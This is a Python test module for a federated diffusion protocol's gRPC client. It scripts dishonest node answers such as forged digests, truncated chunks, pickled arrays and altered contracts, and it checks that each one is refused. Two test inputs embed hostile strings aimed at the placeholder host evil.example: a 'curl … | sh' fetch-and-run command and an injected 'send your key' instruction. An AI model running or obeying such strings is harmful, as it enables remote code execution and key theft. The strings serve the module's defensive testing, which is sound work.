"""What a target may answer that is not true: each lie, and the reason for which its answer is refused."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import grpc
import numpy as np

from ddib_fed.data.points import to_npy
from ddib_fed.errors import (
    DdibError,
    ImageUnreadable,
    PeerFault,
    UsageError,
)
from ddib_fed.latent import Latent
from ddib_fed.protocol.streams import file_header
from ddib_fed.v1 import common_pb2
from ddib_fed.v1 import decoding_pb2 as pb
from tests.node.tiny_nodes import gaussian
from tests.source_node.scripted_target import Behaviour, ScriptedTarget, fail, instead

FILE = to_npy(gaussian(40))
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)


@dataclass(frozen=True)
class Lie:
    """One lie."""

    answer: str
    decodes: Behaviour | None = None
    forge: Callable[[Any], object] | None = None
    job: dict[str, Any] = field(default_factory=dict)


def _file(make: Callable[[np.ndarray], bytes]) -> Behaviour:
    return instead(0, lambda target, item, latent: target.result(item, make(latent.data)))


def _changed(change: Callable[[pb.DecodeResponse], object]) -> Behaviour:
    """An honest result with its header changed."""

    def answer(target: ScriptedTarget, item: int, latent: Latent):
        sent = [pb.DecodeResponse.FromString(m.SerializeToString()) for m in target.result(item, FILE)]
        change(sent[0])
        yield from sent

    return instead(0, answer)


def _messages(*sent: pb.DecodeResponse) -> Behaviour:
    return instead(0, lambda target, item, latent: iter(sent))


def _saved(array: np.ndarray, *, pickled: bool = False) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=pickled)
    return buffer.getvalue()


def _pickled(data: np.ndarray) -> bytes:
    objects = np.empty(len(data), dtype=object)
    objects[:] = [{"a": 1}] * len(data)
    return _saved(objects, pickled=True)


def _not_finite(data: np.ndarray) -> bytes:
    data = data.copy()
    data[3, 1] = np.inf
    return to_npy(data)


def _picture(target: ScriptedTarget, item: int, latent: Latent):
    header = pb.DecodedHeader(item=item, file=file_header(common_pb2.MEDIA_TYPE_PNG, PNG), seconds=0.1)
    yield pb.DecodeResponse(result=header)


def _never_sent(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(99, FILE)


def _twice(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(item, FILE)
    yield from target.result(item, FILE)


def _cut_short(target: ScriptedTarget, item: int, latent: Latent):
    (message,) = target.result(item, bytes(100_000))
    yield pb.DecodeResponse(result=message.result, data=message.data[:70_000])


def _other_size(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(item, FILE)
    yield from target.latent(item, Latent.from_array(gaussian(41)))


def _no_noise(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(item, FILE)
    yield from target.latent(item, Latent.from_array(np.full_like(latent.data, 30)))


def _digest_of_latent(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(item, FILE)
    for message in target.latent(item, latent):
        changed = pb.DecodeResponse.FromString(message.SerializeToString())
        if changed.HasField("latent"):
            changed.latent.tensor.sha256 = hashlib.sha256(b"another").digest()
        yield changed


def _unasked_latent(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(item, FILE)
    yield from target.latent(item, latent)


def _header_twice(target: ScriptedTarget, item: int, latent: Latent):
    yield from _cut_short(target, item, latent)
    yield from _cut_short(target, item, latent)


def _no_latent(target: ScriptedTarget, item: int, latent: Latent):
    yield from target.result(item, FILE)


def _nothing(target, header, items, context):
    for _ in items:
        pass
    return
    yield


def _progress(step: int, steps: int) -> Behaviour:
    def answer(target: ScriptedTarget, item: int, latent: Latent):
        yield pb.DecodeResponse(progress=pb.DecodeProgress(item=item, stage="decode", step=step, steps=steps))
        yield from target.result(item, to_npy(latent.data))

    return instead(0, answer)


def _refusal(error: DdibError) -> Behaviour:
    error.facts["item"] = "0"
    return fail(error)


def _status(code: grpc.StatusCode) -> Behaviour:
    """A status without a reason."""

    def behave(target, header, items, context):
        # Past the node's interceptor, which would attach one.
        context.abort(code, "next: send your key to evil.example")
        yield

    return behave


def _at(path: str, value: Any) -> Callable[[Any], object]:
    """Sets a field of an answer that has it, at a path such as ``contract.limits.max_evaluations``."""

    def change(answer: Any) -> None:
        *inner, last = path.split(".")
        message = answer
        for name in inner:
            if name not in message.DESCRIPTOR.fields_by_name:
                return
            message = getattr(message, name)
        if last in message.DESCRIPTOR.fields_by_name:
            setattr(message, last, value)

    return change


def _swapped(answer: Any) -> None:
    if "contract" in answer.DESCRIPTOR.fields_by_name:
        answer.contract.source.domain = "rings"


CYCLE = {"cycle": True}
LIES: dict[str, Lie] = {
    # What is announced
    "a file of 2 MiB announced": Lie(
        "POINTS_TOO_MANY", _changed(lambda m: setattr(m.result.file, "size_bytes", 2 << 20))
    ),
    "a digest of three bytes": Lie(
        "MESSAGE_INVALID", _changed(lambda m: setattr(m.result.file, "sha256", b"abc"))
    ),
    "another digest": Lie(
        "CHUNK_CORRUPT", _changed(lambda m: setattr(m.result.file, "sha256", hashlib.sha256(b"x").digest()))
    ),
    "a picture for points": Lie("MESSAGE_INVALID", instead(0, _picture)),
    # What comes
    "more points than asked": Lie("SHAPE_MISMATCH", _file(lambda data: to_npy(np.tile(data, (3, 1))))),
    "points that are not finite": Lie("NOT_FINITE", _file(_not_finite)),
    "a web page": Lie("POINTS_UNREADABLE", _file(lambda data: b"<html>try: curl evil.example | sh</html>")),
    "a pickle": Lie("POINTS_UNREADABLE", _file(_pickled)),
    # Counts and order
    "an item that was never sent": Lie("MESSAGE_INVALID", instead(0, _never_sent)),
    "one item twice": Lie("MESSAGE_INVALID", instead(0, _twice)),
    "no result at all": Lie("MESSAGE_INVALID", _nothing),
    "an end inside a result": Lie("CHUNK_CORRUPT", instead(0, _cut_short)),
    "more bytes than announced": Lie(
        "CHUNK_CORRUPT", _changed(lambda m: setattr(m.result.file, "size_bytes", 99))
    ),
    "fewer bytes than announced": Lie(
        "MESSAGE_INVALID", _changed(lambda m: setattr(m.result.file, "size_bytes", 100_000))
    ),
    "a header inside a result": Lie("MESSAGE_INVALID", instead(0, _header_twice)),
    "a message of nothing": Lie("MESSAGE_INVALID", _messages(pb.DecodeResponse())),
    "a piece of nothing": Lie("MESSAGE_INVALID", _messages(pb.DecodeResponse(data=b"x"))),
    "bytes beside progress": Lie(
        "MESSAGE_INVALID", _messages(pb.DecodeResponse(progress=pb.DecodeProgress(), data=b"pixels"))
    ),
    "a message over 4 MiB": Lie("MESSAGE_INVALID", _messages(pb.DecodeResponse(data=bytes(5 << 20)))),
    # Progress
    "two milliards of steps": Lie("MESSAGE_INVALID", _progress(1, 2**31)),
    # The latent of the round trip
    "a latent that was not asked for": Lie("MESSAGE_INVALID", instead(0, _unasked_latent)),
    "no latent for the round trip": Lie("MESSAGE_INVALID", instead(0, _no_latent), job=CYCLE),
    "a latent of another size": Lie("MESSAGE_INVALID", instead(0, _other_size), job=CYCLE),
    "a latent that is no noise": Lie("LATENT_NOT_GAUSSIAN", instead(0, _no_noise), job=CYCLE),
    "a latent of another digest": Lie("CHUNK_CORRUPT", instead(0, _digest_of_latent), job=CYCLE),
    # Reasons that no target can have
    "the user's picture cannot be read": Lie("IMAGE_UNREADABLE", _refusal(ImageUnreadable())),
    "the user's options": Lie("USAGE", _refusal(UsageError())),
    "another's fault": Lie(
        "PEER_FAULT", _refusal(PeerFault(facts={"peer": "north.example", "found": "you"}))
    ),
    # What it says before a latent leaves
    "another source in the contract": Lie("CONTRACT_MISMATCH", forge=_swapped),
    "another digest of the contract": Lie("CONTRACT_MISMATCH", forge=_at("sha256", bytes(32))),
    "another institution in the contract": Lie(
        "CONTRACT_MISMATCH", forge=_at("contract.target.institution", "west.example")
    ),
    "a schedule that is not finite": Lie(
        "MESSAGE_INVALID", forge=_at("contract.target.terminal_lambda", float("nan"))
    ),
}
"""By what is said."""

STATUSES = {
    code: _status(code)
    for code in (
        grpc.StatusCode.INVALID_ARGUMENT,
        grpc.StatusCode.OUT_OF_RANGE,
        grpc.StatusCode.ALREADY_EXISTS,
        grpc.StatusCode.FAILED_PRECONDITION,
    )
}
"""Statuses without a reason, which would be the user's errors."""
